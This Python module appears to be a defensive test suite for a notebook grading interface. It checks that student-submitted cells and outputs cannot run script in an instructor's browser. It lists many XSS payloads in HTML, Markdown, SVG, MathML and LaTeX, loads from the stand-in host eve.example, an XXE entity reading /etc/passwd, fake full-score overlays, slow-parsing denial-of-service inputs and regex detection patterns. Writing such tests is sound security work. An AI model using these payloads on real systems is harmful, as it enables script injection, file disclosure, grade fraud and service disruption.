"""What students write, shown to an instructor: pages with feedback run none of it."""

import copy

from hostile.case import Case, cells_of

SCRIPT = "<script>EVE_RUNS()</script><img src=x onerror=EVE_RUNS()>"
# What a browser runs, loads from elsewhere or puts over the page, as HTML or Markdown; one a line.
ELEMENTS = [
    element.replace("NEWLINE", "\n")
    for element in rf"""
{SCRIPT}
<ScRiPt >EVE_RUNS()</sCrIpT ><script src=//eve.example/x></script><script\x20>EVE_RUNS()</script>
<svg onload=EVE_RUNS()></svg><svg><script>EVE_RUNS()</script></svg>
<svg><animate onbegin=EVE_RUNS() attributeName=x dur=1s><set attributeName=href to=x></svg>
<svg><foreignObject><img src=x onerror=EVE_RUNS()></foreignObject></svg>
<svg></p><style><a id='</style><img src=x onerror=EVE_RUNS()>'>
<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=EVE_RUNS()>'>
<math><mi xlink:href='javascript:EVE_RUNS()' href='javascript:EVE_RUNS()'>link</mi></math>
<math><annotation-xml encoding='text/html'><script>EVE_RUNS()</script></annotation-xml></math>
<template><script>EVE_RUNS()</script></template><noscript><p title='</noscript>{SCRIPT}'></noscript>
<xmp><p title='</xmp>{SCRIPT}'></xmp><textarea><p title='</textarea>{SCRIPT}'></textarea>
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=EVE_RUNS()>
<iframe srcdoc='<script>parent.EVE_RUNS()</script>'></iframe><iframe src='javascript:EVE_RUNS()'></iframe>
<object data='data:text/html,{SCRIPT}'></object><embed src='http://eve.example/x'><frameset onload=EVE_RUNS()>
[link](javascript:EVE_RUNS()) [link](JaVaScRiPt:EVE_RUNS()) [link](&#106;avascript:EVE_RUNS())
[link](data:text/html,<script>EVE_RUNS()</script>) <javascript:EVE_RUNS()> [link](<javascript:EVE_RUNS()>)
![picture](x" onerror="EVE_RUNS()) ![picture](http://eve.example/a.png) ![](//eve.example/b)
[a]: javascript:EVE_RUNS()NEWLINENEWLINE[a] ![a]
```x"><img/src=x/onerror=EVE_RUNS()>NEWLINE</code></pre><script>EVE_RUNS()</script>NEWLINE```
`</code>{SCRIPT}` | **{SCRIPT}** <!-->{SCRIPT}--> <![CDATA[{SCRIPT}]]> <?php {SCRIPT}?>
<a href='javascript:EVE_RUNS()'>link</a><a href='&#1;java&#10;script:EVE_RUNS()'>link</a>
<a href=/formgrader/x ping=http://eve.example/y target=_top>link</a><base href='http://eve.example/'>
<style>@import 'http://eve.example/EVE_RUNS'; * {{background: url(http://eve.example/EVE_RUNS)}}</style>
<link rel=stylesheet href='http://eve.example/EVE_RUNS'><meta http-equiv=refresh content='0;url=//eve.example'>
<form action='http://eve.example/EVE_RUNS'><input autofocus onfocus=EVE_RUNS()><button>Send</button></form>
<button formaction='javascript:EVE_RUNS()'>Send</button><select autofocus onfocus=EVE_RUNS()></select>
<img src=http://eve.example/c srcset='//eve.example/d 1x'><picture><source srcset=//eve.example/f></picture>
<video poster=//eve.example/g src=//eve.example/h></video><audio src=//eve.example/i onerror=EVE_RUNS()></audio>
<body background=//eve.example/j onload=EVE_RUNS()><table background=//eve.example/k><td background=//eve.example/l>
<details open ontoggle=EVE_RUNS()><summary>open</summary></details><marquee onstart=EVE_RUNS()>a</marquee>
<div style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999;background:white'>Score: 25 / 25</div>
<h1 id=statusmessage class='navbar navbar-fixed-top score' style='margin-top:-900px'>Score: 25 / 25</h1>
$\href{{javascript:EVE_RUNS()}}{{x}}$ $\style{{position:fixed;top:0}}{{x}}$ $\text{{{SCRIPT}}}$
$\class{{navbar-fixed-top}}{{x}}$ $\raise-90em x$ $\hspace{{-90em}} x$ $\color{{url(//eve.example/t)}}{{x}}$
</div></div></body></html>{SCRIPT}
""".strip().split("\n")
]
HEAD = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
DRAWINGS = [
    f"{HEAD} onload='EVE_RUNS()'><script>EVE_RUNS()</script><circle r='9'/></svg>",
    f"{HEAD}><image xlink:href='http://eve.example/m'/><use href='http://eve.example/n#a'/></svg>",
    f"{HEAD}><foreignObject><p xmlns='http://www.w3.org/1999/xhtml'>{SCRIPT}</p></foreignObject></svg>",
    f"{HEAD}><style>@import url(//eve.example/p); text {{fill: url(//eve.example/q)}}</style></svg>",
    f"{HEAD}><a xlink:href='javascript:EVE_RUNS()'><text fill='url(//eve.example/r#a)'>a</text></a></svg>",
    f"<!DOCTYPE svg [<!ENTITY a SYSTEM '/etc/passwd'>]>{HEAD}><text>&a;</text></svg>",
    f"<?xml-stylesheet href='http://eve.example/s'?>{HEAD}></svg><script>EVE_RUNS()</script>",
]
OUTPUTS = f"""
import sys
from IPython.display import HTML, SVG, Javascript, Latex, Markdown, display

script = {SCRIPT!r}
print(script)
print(script, file=sys.stderr)
display(HTML(script), Javascript("EVE_RUNS()"), Markdown(script), Latex(script))
for text in {ELEMENTS!r}:
    display(HTML(text), Markdown(text))
for text in {DRAWINGS!r}:
    display({{"image/svg+xml": text, "text/plain": text}}, raw=True)
display({{"text/html": script}}, raw=True, metadata={{"text/html": {{"isolated": True}}}})
display({{"text/html": script, "image/svg+xml": "<svg onload=EVE_RUNS()></svg>",
         "application/vnd.plotly.v1+json": {{}}, "text/plain": script, "text/vnd.mermaid": script,
         "application/vnd.jupyter.widget-view+json": {{"model_id": script}}}}, raw=True)
display({{"image/png": "x' onerror='EVE_RUNS()", "image/jpeg": script}}, raw=True)
print("\\x1b[38;2;1;2;3m" + script + "\\x1b[0m" + "\\x1b]8;;javascript:EVE_RUNS()\\x07")
raise RuntimeError(script)
"""
ANSWER = f"answer_rate = {SCRIPT!r}"
FUNCTION = f"def moved(weights, gradient, rate):\n    raise RuntimeError({SCRIPT!r})"
# What some readers of HTML and Markdown need minutes for, and a drawing that no browser ends.
SLOW = "<b><p>|<div>|<b></i>|<b title='</b>'>|[|![|[a](|$$ |\\begin{a}|**a *b |> |$x_{|<a a a a |<!--|<style "
SLOW = [*SLOW.split("|"), "[a]: b\n", "a" + " " * 9_999 + "b\n"]
LEVELS = [f"<g id='g{i + 1}'>" + f"<use href='#g{i}'/>" * 9 + "</g>" for i in range(11)]
AGAIN = f"{HEAD}><circle id='g0' r='9'/>{''.join(LEVELS)}</svg>"
PARSED = f"""
from IPython.display import HTML, SVG, Latex, Markdown, display

for text in {SLOW!r}:
    for kind in (HTML, Markdown, Latex):
        display(kind(text * (90_000 // len(text))))
        display(kind(text * (19_000 // len(text))))
display(SVG({AGAIN!r}))
"""
ANSI = "print('\\x1b[1mx\\x1b[0m' * 60_000)\nprint('x' * 400_000)\nprint('\\r' * 99_000)"


def with_markdown(document: dict) -> None:
    """Add text cells with everything that a browser would run."""
    text = {**copy.deepcopy(cells_of(document)["intro"])}
    document["cells"] += [
        {**text, "id": f"text-{number}", "source": element}
        for number, element in enumerate(ELEMENTS)
    ]


def with_long_texts(document: dict) -> None:
    """Add text cells that take long to be read as Markdown."""
    text = {**copy.deepcopy(cells_of(document)["intro"])}
    document["cells"] += [
        {**text, "id": f"long-{number}", "source": element * (1_000_000 // len(element))}
        for number, element in enumerate(SLOW)
    ]


def with_coloured_cells(document: dict) -> None:
    """Add cells whose outputs cost much time to colour."""
    cell = cells_of(document)["first"]
    document["cells"] += [{**copy.deepcopy(cell), "id": f"ansi-{i}"} for i in range(9)]


RUNS = (r"<script>EVE", r"<[^>]*\son\w+\s*=[^>]*EVE_RUNS", r"<[^>]*javascript:EVE", r"<svg onload")
LOADS = (r"<(link|style|iframe|form)[^>]*EVE_RUNS", r"<[^>]*eve\.example")
MOVES = (r"<[^>]*(navbar-fixed-top|position:fixed|margin-top:-900)",)

CASES = [
    Case(
        "scripts",
        first=OUTPUTS,
        answers={"number": ANSWER, "function": FUNCTION},
        mutate=with_markdown,
        earns={"q_number": 0.0, "q_function": 0.0},
        page=RUNS + LOADS + MOVES,
    ),
    Case("slow_texts", first=PARSED, mutate=with_long_texts, seconds=90),
    Case("colours", first=ANSI, mutate=with_coloured_cells, seconds=90),
]
